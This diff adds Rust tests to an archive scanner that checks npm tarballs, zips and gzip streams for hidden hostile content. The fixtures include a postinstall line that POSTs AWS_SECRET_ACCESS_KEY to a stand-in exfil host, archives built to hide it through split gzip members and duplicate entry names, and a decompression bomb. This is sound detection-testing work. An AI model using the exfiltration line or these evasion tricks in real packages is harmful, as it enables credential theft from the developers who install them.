@@ -797,6 +797,16 @@ fn a_truncated_tar_names_the_entry_where_it_broke() {
         reason(&report, "y.tar"),
         "truncated tar archive: it ends without its end-of-archive marker after entry package/c.js"
     );
+    assert_eq!(report.skipped.len(), 1, "{:#?}", report.skipped);
+
+    // The same cut tar in a whole gzip stream: the gzip stream is fine, the tar is not.
+    let report = scan_path(&scanner(), &write(dir.path(), "y.tgz", &gzip(&tar[..cut]))).unwrap();
+    assert_eq!(files(&report).len(), 3);
+    assert_eq!(
+        reason(&report, "y.tgz"),
+        "truncated tar archive: it ends without its end-of-archive marker after entry package/c.js"
+    );
+    assert_eq!(report.skipped.len(), 1, "{:#?}", report.skipped);
 }
 
 #[test]
@@ -961,4 +971,431 @@ fn a_symlink_inside_a_scanned_directory_is_never_followed() {
     assert_eq!(files(&report), ["cli.js"]);
     assert!(env_files(&report, "OUTSIDE_TOKEN").is_empty());
     assert!(env_files(&report, "OUTSIDE_DIR_TOKEN").is_empty());
+}
+
+// --- Multi-member gzip: `cat a.gz b.gz` is one stream to gzip -d, tar and Node's zlib.
+
+/// What the second member of the hostile tarball hides.
+const POSTINSTALL_JS: &[u8] = b"fetch(\"https://exfil.example/collect\",{method:\"POST\",\
+body:process.env.AWS_SECRET_ACCESS_KEY});\n";
+
+/// An npm tarball whose tar stream is split across two gzip members: the first holds
+/// `package/index.js` (and no end-of-archive marker), the second `package/postinstall.js`
+/// and the marker.
+fn two_member_tgz() -> Vec<u8> {
+    let tar = tar_bytes(&[
+        ("package/index.js", b"module.exports = 42;\n".to_vec()),
+        ("package/postinstall.js", POSTINSTALL_JS.to_vec()),
+    ]);
+    // One header block and one data block: the whole of package/index.js.
+    let (first, second) = tar.split_at(1024);
+    [gzip(first), gzip(second)].concat()
+}
+
+#[test]
+fn a_multi_member_tgz_is_read_to_its_last_member() {
+    let dir = tempfile::tempdir().unwrap();
+    let scanner = scanner();
+    let report = scan_path(&scanner, &write(dir.path(), "x.tgz", &two_member_tgz())).unwrap();
+    assert_eq!(
+        files(&report),
+        ["x.tgz!package/index.js", "x.tgz!package/postinstall.js"]
+    );
+    assert_eq!(report.files[0].size, 21);
+    let found = |kind: Kind, value: &str| {
+        report
+            .indicators
+            .iter()
+            .filter(|i| i.kind == kind && i.value == value)
+            .map(|i| i.evidence.file.as_str())
+            .collect::<Vec<_>>()
+    };
+    assert_eq!(
+        found(Kind::Url, "https://exfil.example/collect"),
+        ["x.tgz!package/postinstall.js"]
+    );
+    assert_eq!(
+        found(Kind::EnvVar, "AWS_SECRET_ACCESS_KEY"),
+        ["x.tgz!package/postinstall.js"]
+    );
+    assert!(report.skipped.is_empty(), "{:#?}", report.skipped);
+
+    // A gzip-compressed file of several members is the members' contents in order, as
+    // `gzip -dc` prints it.
+    let js = [gzip(b"const a = 1;\n"), gzip(POSTINSTALL_JS)].concat();
+    let report = scan_path(&scanner, &write(dir.path(), "cli.js.gz", &js)).unwrap();
+    assert_eq!(files(&report), ["cli.js.gz!cli.js"]);
+    assert_eq!(report.files[0].size, 13 + POSTINSTALL_JS.len() as u64);
+    assert_eq!(
+        env_files(&report, "AWS_SECRET_ACCESS_KEY"),
+        ["cli.js.gz!cli.js"]
+    );
+}
+
+#[test]
+fn trailing_garbage_after_the_last_gzip_member_is_reported_with_its_offset() {
+    let dir = tempfile::tempdir().unwrap();
+    let scanner = scanner();
+    let tgz = two_member_tgz();
+    let garbage = b"not gzip: process.env.HIDDEN_AFTER_THE_TRAILER";
+    let bytes = [tgz.as_slice(), garbage].concat();
+    let report = scan_path(&scanner, &write(dir.path(), "x.tgz", &bytes)).unwrap();
+    assert_eq!(
+        files(&report),
+        ["x.tgz!package/index.js", "x.tgz!package/postinstall.js"]
+    );
+    assert_eq!(
+        report.skipped,
+        [candor_scan::Skipped {
+            path: "x.tgz".to_owned(),
+            reason: format!(
+                "trailing data after the last gzip member: {} bytes at offset {}, not scanned",
+                garbage.len(),
+                tgz.len()
+            ),
+        }]
+    );
+    assert!(env_files(&report, "HIDDEN_AFTER_THE_TRAILER").is_empty());
+
+    // After a single compressed file too; zero padding is trailing data as well.
+    let bytes = [gzip(CLI_JS).as_slice(), &[0u8; 512]].concat();
+    let report = scan_path(&scanner, &write(dir.path(), "cli.js.gz", &bytes)).unwrap();
+    assert_eq!(env_files(&report, "ACME_TOKEN"), ["cli.js.gz!cli.js"]);
+    assert_eq!(
+        reason(&report, "cli.js.gz"),
+        format!(
+            "trailing data after the last gzip member: 512 bytes at offset {}, not scanned",
+            bytes.len() - 512
+        )
+    );
+
+    // Another member that starts right but is broken is a corrupt stream, not trailing
+    // data: `gzip -d` fails on it too.
+    let bytes = [
+        tgz.as_slice(),
+        &[0x1f, 0x8b, 0x07, 0, 0, 0, 0, 0, 0, 0xff, 1, 2, 3],
+    ]
+    .concat();
+    let report = scan_path(&scanner, &write(dir.path(), "y.tgz", &bytes)).unwrap();
+    assert_eq!(files(&report).len(), 2);
+    assert!(
+        reason(&report, "y.tgz")
+            .starts_with("corrupt gzip stream after entry package/postinstall.js"),
+        "{:#?}",
+        report.skipped
+    );
+}
+
+#[test]
+fn many_small_gzip_members_are_held_to_the_limits_together() {
+    let dir = tempfile::tempdir().unwrap();
+    let scanner = scanner();
+    // 40 entries of 16 KiB, each in a gzip member of its own: 640 KiB in all, each member
+    // far within any limit.
+    let names: Vec<String> = (0..40).map(|i| format!("package/{i:02}.js")).collect();
+    let entries: Vec<(&str, Vec<u8>)> = names
+        .iter()
+        .zip(0u64..)
+        .map(|(name, seed)| (name.as_str(), noise(16 << 10, seed)))
+        .collect();
+    let tar = tar_bytes(&entries);
+    let per_entry = 512 + (16 << 10);
+    let mut tgz: Vec<u8> = tar[..tar.len() - 1024]
+        .chunks(per_entry)
+        .flat_map(gzip)
+        .collect();
+    tgz.extend(gzip(&tar[tar.len() - 1024..]));
+    let path = write(dir.path(), "members.tgz", &tgz);
+
+    let report = scan_path(&scanner, &path).unwrap();
+    assert_eq!(files(&report).len(), 40, "{:#?}", report.skipped);
+    assert!(report.skipped.is_empty(), "{:#?}", report.skipped);
+
+    let small_total = ArchiveLimits {
+        max_total_size: 256 << 10,
+        ..ArchiveLimits::default()
+    };
+    let report = scan_path_with(&scanner, &path, &small_total).unwrap();
+    assert_eq!(files(&report).len(), 16);
+    assert_eq!(
+        reason(&report, "members.tgz!package/16.js"),
+        "the archive exceeds the 256 KiB limit on total decompressed size; the rest is not scanned"
+    );
+    assert_eq!(report.skipped.len(), 1, "{:#?}", report.skipped);
+
+    // 64 members of 1 MiB of zeros each, about 1 KiB compressed: the ratio of the whole
+    // stream stops them, whichever member crosses it.
+    let zeros = gzip(&vec![0u8; 1 << 20]);
+    let bomb = zeros.repeat(64);
+    let started = Instant::now();
+    let report = scan_path(&scanner, &write(dir.path(), "zeros.bin.gz", &bomb)).unwrap();
+    assert!(
+        started.elapsed() < Duration::from_secs(10),
+        "{:?}",
+        started.elapsed()
+    );
+    assert!(report.files.is_empty(), "{:#?}", report.files);
+    assert!(
+        reason(&report, "zeros.bin.gz!zeros.bin").starts_with("compression ratio above 200:1"),
+        "{:#?}",
+        report.skipped
+    );
+    assert_eq!(report.skipped.len(), 1, "{:#?}", report.skipped);
+}
+
+// --- Duplicate paths: one archive, two entries with one path. A tool that reads an entry
+// by name sees one of them, an installer that extracts them all keeps the last.
+
+/// The `duplicate-entry` indicators, as (value, file).
+fn duplicates(report: &ScanReport) -> Vec<(&str, &str)> {
+    report
+        .indicators
+        .iter()
+        .filter(|i| i.kind == Kind::DuplicateEntry)
+        .map(|i| (i.value.as_str(), i.evidence.file.as_str()))
+        .collect()
+}
+
+/// Raw deflate of `bytes`, final.
+fn deflate(bytes: &[u8]) -> Vec<u8> {
+    let mut encoder = flate2::write::DeflateEncoder::new(Vec::new(), Compression::default());
+    encoder.write_all(bytes).unwrap();
+    encoder.finish().unwrap()
+}
+
+#[test]
+fn duplicate_names_in_a_zip_are_each_scanned_and_reported() {
+    let dir = tempfile::tempdir().unwrap();
+    let scanner = scanner();
+    let second = b"process.env.SECOND_A";
+    let zip = raw_zip(&[
+        stored("a.js", b"process.env.FIRST_A"),
+        stored("package/dist/cli.js", CLI_JS),
+        RawEntry {
+            name: "a.js",
+            method: 8,
+            crc: crc32(second),
+            data: deflate(second),
+            size: u32::try_from(second.len()).unwrap(),
+        },
+        stored("a.js", b"process.env.THIRD_A"),
+        // Another spelling of the same path: one file once extracted.
+        stored("./package/dist/cli.js", b"process.env.DOT_SLASH"),
+    ]);
+    let report = scan_path(&scanner, &write(dir.path(), "x.zip", &zip)).unwrap();
+    assert_eq!(
+        files(&report),
+        [
+            "x.zip!a.js",
+            "x.zip!package/dist/cli.js",
+            "x.zip!a.js (occurrence 2)",
+            "x.zip!a.js (occurrence 3)",
+            "x.zip!package/dist/cli.js (occurrence 2)",
+        ]
+    );
+    assert_eq!(env_files(&report, "FIRST_A"), ["x.zip!a.js"]);
+    assert_eq!(
+        env_files(&report, "SECOND_A"),
+        ["x.zip!a.js (occurrence 2)"]
+    );
+    assert_eq!(env_files(&report, "THIRD_A"), ["x.zip!a.js (occurrence 3)"]);
+    assert_eq!(
+        env_files(&report, "DOT_SLASH"),
+        ["x.zip!package/dist/cli.js (occurrence 2)"]
+    );
+    assert_eq!(
+        duplicates(&report),
+        [
+            ("a.js", "x.zip!a.js (occurrence 2)"),
+            ("a.js", "x.zip!a.js (occurrence 3)"),
+            (
+                "package/dist/cli.js",
+                "x.zip!package/dist/cli.js (occurrence 2)"
+            ),
+        ]
+    );
+    let duplicate = report
+        .indicators
+        .iter()
+        .find(|i| i.kind == Kind::DuplicateEntry)
+        .unwrap();
+    assert_eq!(duplicate.category.as_str(), "obfuscation");
+    assert!(
+        duplicate
+            .evidence
+            .excerpt
+            .starts_with("entry 2 with the path a.js in x.zip"),
+        "{duplicate:#?}"
+    );
+    assert!(report.skipped.is_empty(), "{:#?}", report.skipped);
+
+    // Behind a self-extractor's stub (offsets counted from the end of the stub), alike.
+    let sfx = [&b"#!/bin/sh\nexec unzip \"$0\"\n"[..], &zip].concat();
+    let report = scan_path(&scanner, &write(dir.path(), "sfx.zip", &sfx)).unwrap();
+    assert_eq!(files(&report).len(), 5, "{:#?}", report.skipped);
+    assert_eq!(
+        env_files(&report, "THIRD_A"),
+        ["sfx.zip!a.js (occurrence 3)"]
+    );
+    assert_eq!(duplicates(&report).len(), 3);
+    assert!(report.skipped.is_empty(), "{:#?}", report.skipped);
+}
+
+#[test]
+fn a_duplicate_name_hiding_an_archive_is_opened_under_its_own_name() {
+    let dir = tempfile::tempdir().unwrap();
+    let clean = gzip(&tar_bytes(&[("package/index.js", b"1;\n".to_vec())]));
+    let hostile = gzip(&tar_bytes(&[("package/dist/cli.js", CLI_JS.to_vec())]));
+    let zip = raw_zip(&[
+        stored("agent.tgz", &clean),
+        stored("agent.tgz", &hostile),
+        stored("cli.js.gz", &gzip(b"1;\n")),
+        stored("cli.js.gz", &gzip(CLI_JS)),
+    ]);
+    let report = scan_path(&scanner(), &write(dir.path(), "bundle.zip", &zip)).unwrap();
+    assert_eq!(
+        env_files(&report, "ACME_TOKEN"),
+        [
+            "bundle.zip!agent.tgz (occurrence 2)!package/dist/cli.js",
+            "bundle.zip!cli.js.gz (occurrence 2)!cli.js"
+        ]
+    );
+    assert_eq!(
+        duplicates(&report),
+        [
+            ("agent.tgz", "bundle.zip!agent.tgz (occurrence 2)"),
+            ("cli.js.gz", "bundle.zip!cli.js.gz (occurrence 2)"),
+        ]
+    );
+}
+
+#[test]
+fn duplicate_paths_in_a_tar_are_each_scanned_and_reported() {
+    let dir = tempfile::tempdir().unwrap();
+    let scanner = scanner();
+    let mut builder = tar::Builder::new(Vec::new());
+    for (path, data) in [
+        ("package/a.js", &b"process.env.FIRST_A"[..]),
+        ("package/dist/cli.js", CLI_JS),
+        ("./package/a.js", b"process.env.SECOND_A"),
+    ] {
+        let mut header = tar::Header::new_gnu();
+        header.set_size(data.len() as u64);
+        header.set_mode(0o644);
+        builder.append_data(&mut header, path, data).unwrap();
+    }
+    // Then a link in its place: extracting it replaces the file.
+    let mut header = tar::Header::new_gnu();
+    header.set_entry_type(tar::EntryType::Symlink);
+    header.set_size(0);
+    builder
+        .append_link(&mut header, "package/a.js", "/etc/passwd")
+        .unwrap();
+    let tar = builder.into_inner().unwrap();
+    for (name, bytes) in [("x.tar", tar.clone()), ("x.tgz", gzip(&tar))] {
+        let report = scan_path(&scanner, &write(dir.path(), name, &bytes)).unwrap();
+        assert_eq!(
+            files(&report),
+            [
+                format!("{name}!package/a.js"),
+                format!("{name}!package/dist/cli.js"),
+                format!("{name}!package/a.js (occurrence 2)"),
+            ]
+        );
+        assert_eq!(
+            env_files(&report, "FIRST_A"),
+            [format!("{name}!package/a.js")]
+        );
+        assert_eq!(
+            env_files(&report, "SECOND_A"),
+            [format!("{name}!package/a.js (occurrence 2)")]
+        );
+        assert_eq!(
+            reason(&report, &format!("{name}!package/a.js (occurrence 3)")),
+            "link entry, never followed (symbolic link to /etc/passwd)"
+        );
+        assert_eq!(report.skipped.len(), 1, "{:#?}", report.skipped);
+        let expected: Vec<(&str, String)> = (2..=3)
+            .map(|k| {
+                (
+                    "package/a.js",
+                    format!("{name}!package/a.js (occurrence {k})"),
+                )
+            })
+            .collect();
+        let found: Vec<(&str, String)> = duplicates(&report)
+            .into_iter()
+            .map(|(v, f)| (v, f.to_owned()))
+            .collect();
+        assert_eq!(found, expected);
+    }
+}
+
+#[test]
+fn a_zip_read_from_its_local_headers_reports_duplicates_too() {
+    let dir = tempfile::tempdir().unwrap();
+    let zip = raw_zip(&[
+        stored("a.js", b"process.env.FIRST_A"),
+        stored("a.js", b"process.env.SECOND_A"),
+    ]);
+    // Without its end record, the central directory cannot be found.
+    let cut = &zip[..zip.len() - 22];
+    let report = scan_path(&scanner(), &write(dir.path(), "x.zip", cut)).unwrap();
+    assert!(
+        reason(&report, "x.zip").starts_with("corrupt zip central directory"),
+        "{:#?}",
+        report.skipped
+    );
+    assert_eq!(files(&report), ["x.zip!a.js", "x.zip!a.js (occurrence 2)"]);
+    assert_eq!(duplicates(&report), [("a.js", "x.zip!a.js (occurrence 2)")]);
+}
+
+#[test]
+fn data_after_the_tar_end_of_archive_marker_is_reported() {
+    let dir = tempfile::tempdir().unwrap();
+    let scanner = scanner();
+    let first = tar_bytes(&[("package/index.js", b"module.exports = 42;\n".to_vec())]);
+    let second = tar_bytes(&[("package/postinstall.js", POSTINSTALL_JS.to_vec())]);
+    // `cat a.tar b.tar`: the reader stops at the first archive's marker.
+    let tar = [first.as_slice(), &second].concat();
+    let report = scan_path(&scanner, &write(dir.path(), "x.tar", &tar)).unwrap();
+    assert_eq!(files(&report), ["x.tar!package/index.js"]);
+    let reason_for = |len: usize, at: usize, of: &str| {
+        format!(
+            "data after the end-of-archive marker: {len} bytes at offset {at}{of}, not scanned \
+             (tar readers that read on past a zero block may extract it)"
+        )
+    };
+    assert_eq!(
+        reason(&report, "x.tar"),
+        reason_for(second.len(), first.len(), "")
+    );
+    // `cat a.tgz b.tgz` alike, the offset in the decompressed stream.
+    let tgz = [gzip(&first), gzip(&second)].concat();
+    let report = scan_path(&scanner, &write(dir.path(), "x.tgz", &tgz)).unwrap();
+    assert_eq!(files(&report), ["x.tgz!package/index.js"]);
+    assert_eq!(
+        reason(&report, "x.tgz"),
+        reason_for(second.len(), first.len(), " of the decompressed stream")
+    );
+    assert_eq!(report.skipped.len(), 1, "{:#?}", report.skipped);
+
+    // One zero block between two entries ends the archive here; what follows is listed.
+    let lone = [&first[..1024], &[0u8; 512], &second[..]].concat();
+    let report = scan_path(&scanner, &write(dir.path(), "lone.tar", &lone)).unwrap();
+    assert_eq!(files(&report), ["lone.tar!package/index.js"]);
+    assert_eq!(
+        reason(&report, "lone.tar"),
+        reason_for(second.len(), 1536, "")
+    );
+
+    // Zero padding to a whole record is no data.
+    let padded = [first.as_slice(), &[0u8; 8192]].concat();
+    for (name, bytes) in [
+        ("padded.tar", padded.clone()),
+        ("padded.tgz", gzip(&padded)),
+    ] {
+        let report = scan_path(&scanner, &write(dir.path(), name, &bytes)).unwrap();
+        assert!(report.skipped.is_empty(), "{name}: {:#?}", report.skipped);
+    }
 }
